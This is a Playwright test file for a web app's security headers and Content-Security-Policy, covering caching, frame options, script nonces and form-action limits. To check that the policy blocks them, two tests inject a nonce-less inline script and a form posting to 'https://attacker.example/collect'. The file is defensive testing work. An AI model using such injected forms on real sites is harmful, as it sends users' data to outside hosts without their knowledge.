import { expect, test } from "./support/fixtures";

test.describe("response headers", () => {
  test("a signed-in page is never cached; a signed-out landing page may be", async ({
    page,
    user: _user,
    playwright,
    baseURL,
  }) => {
    const chat = await page.request.get("/chat");
    expect(chat.status()).toBe(200);
    expect(chat.headers()["cache-control"]).toBe("private, no-store");
    expect(chat.headers()["x-frame-options"]).toBe("DENY");

    const visitor = await playwright.request.newContext({ baseURL });
    try {
      const landing = await visitor.get("/");
      expect(landing.status()).toBe(200);
      expect(landing.headers()["cache-control"] ?? "").not.toContain("no-store");
      // Plain http: HSTS would be meaningless and is not sent.
      expect(landing.headers()["strict-transport-security"]).toBeUndefined();
    } finally {
      await visitor.dispose();
    }
  });

  test("/healthz says ready only with everything answering, never from a cache", async ({ request }) => {
    const response = await request.get("/healthz");
    expect(response.status()).toBe(200);
    expect(await response.json()).toEqual({ ok: true });
    expect(response.headers()["cache-control"]).toBe("no-store");
  });
});

test.describe("Content-Security-Policy", () => {
  test("pages allow only their own scripts and the inline scripts carrying this page's nonce", async ({
    page,
    user: _user,
  }) => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const response = await page.goto("/chat");
    const policy = response?.headers()["content-security-policy"] ?? "";
    const scriptSrc = policy.split(";").find((part) => part.trim().startsWith("script-src")) ?? "";
    const nonce = /'nonce-([^']+)'/.exec(scriptSrc)?.[1];
    expect(nonce).toBeTruthy();
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");

    // The app's own scripts ran under the policy: Remix hydrated the page (its router is set up by them).
    await page.waitForFunction(() => "__remixRouter" in window);
    expect(violations).toEqual([]);

    // An inline script without the nonce (what an injection would add) does not run.
    const injectedRan = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.__injected = true;";
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return (window as { __injected?: boolean }).__injected === true;
    });
    expect(injectedRan).toBe(false);

    // A fresh page gets a fresh nonce.
    const again = await page.request.get("/chat");
    expect(again.headers()["content-security-policy"]).not.toContain(`'nonce-${nonce}'`);
  });
  test("forms post only to this site, or to Stripe Checkout where the checkout form's answer leads", async ({
    page,
    user: _user,
  }) => {
    const response = await page.goto("/chat");
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("form-action 'self' https://checkout.stripe.com");

    // A form an injection points at another site is refused before it leaves the page.
    const leaked: string[] = [];
    page.on("request", (request) => {
      if (request.url().startsWith("https://attacker.example/")) leaked.push(request.url());
    });
    const violated = page.evaluate(
      () =>
        new Promise<string>((resolve) =>
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)),
        ),
    );
    await page.evaluate(() => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = "https://attacker.example/collect";
      document.body.append(form);
      form.submit();
    });
    expect(await violated).toBe("form-action");
    expect(leaked).toEqual([]);
  });
});
